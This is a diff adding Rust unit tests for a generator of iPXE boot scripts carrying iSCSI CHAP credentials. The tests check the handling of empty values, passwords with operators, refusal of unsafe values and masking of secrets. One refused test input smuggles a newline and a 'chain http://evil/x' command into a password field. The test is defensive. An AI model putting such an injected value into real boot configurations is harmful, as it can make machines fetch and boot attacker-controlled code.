@@ -190,3 +190,100 @@ fn bad_targets_are_refused_clearly() {
         assert!(err.contains(why), "{err}");
     }
 }
+
+#[test]
+fn empty_credentials_and_an_empty_iqn_count_as_none() {
+    // Ironic's template skips empty values; a `set username ` line would not
+    // even parse.
+    let p = plan(
+        &[target(1, 0, chap("10.0.0.1:3260", "iqn.t", 0, "", ""))],
+        &[iqn(""), iqn("iqn.second")],
+    )
+    .unwrap();
+    let script = render_config(NODE, &p);
+    ipxe_syntax::check(&script).unwrap();
+    assert!(
+        script.contains("clear username\nclear password\n"),
+        "{script}"
+    );
+    assert!(
+        script.contains("set initiator-iqn iqn.second\n"),
+        "{script}"
+    );
+    let p = plan(
+        &[target(1, 0, chap("10.0.0.1:3260", "iqn.t", 0, "u", "p"))],
+        &[iqn("")],
+    )
+    .unwrap();
+    assert!(!render_config(NODE, &p).contains("initiator-iqn"));
+}
+
+#[test]
+fn a_password_with_operators_in_it_is_kept_whole() {
+    // `||` and `&&` are operators only as words of their own.
+    let p = plan(
+        &[target(
+            1,
+            0,
+            chap("10.0.0.1:3260", "iqn.t", 0, "u", "S3cr3t||pw&&x"),
+        )],
+        &[iqn("iqn.i")],
+    )
+    .unwrap();
+    let script = render_config(NODE, &p);
+    ipxe_syntax::check(&script).unwrap();
+    assert!(script.contains("set password S3cr3t||pw&&x\n"));
+}
+
+#[test]
+fn values_ipxe_would_change_are_refused_without_quoting_them() {
+    for bad in [
+        "zq9\nchain http://evil/x",
+        "zq9\r",
+        "zq9${net0/mac}",
+        " zq9leading",
+        "zq9trailing ",
+        "zq9two  spaces",
+    ] {
+        let err = plan(
+            &[target(1, 0, chap("10.0.0.1:3260", "iqn.t", 0, "u", bad))],
+            &[iqn("iqn.i")],
+        )
+        .unwrap_err();
+        let text = err.to_string();
+        assert!(text.contains("auth_password cannot be written"), "{text}");
+        assert!(!text.contains("zq9"), "{text}");
+    }
+    // One space inside is what iPXE keeps.
+    assert!(plan(
+        &[target(
+            1,
+            0,
+            chap("10.0.0.1:3260", "iqn.t", 0, "u", "two words")
+        )],
+        &[iqn("iqn.i")],
+    )
+    .is_ok());
+    assert!(plan(
+        &[target(1, 0, chap("10.0.0.1:3260", "iqn.t", 0, "u", "p"))],
+        &[iqn("iqn.i\nsanboot")],
+    )
+    .is_err());
+}
+
+#[test]
+fn the_fingerprinted_plan_holds_no_password() {
+    let p = plan(
+        &[
+            target(1, 0, chap("10.0.0.1:3260", "iqn.t", 0, "u", "bootsecret")),
+            target(2, 1, chap("10.0.0.1:3260", "iqn.t2", 1, "u2", "datasecret")),
+        ],
+        &[iqn("iqn.i")],
+    )
+    .unwrap();
+    let masked = render_config(NODE, &p.without_secrets());
+    ipxe_syntax::check(&masked).unwrap();
+    assert!(!masked.contains("bootsecret") && !masked.contains("datasecret"));
+    assert!(masked.contains("set password ******"));
+    assert!(render_config(NODE, &p).contains("bootsecret"));
+}
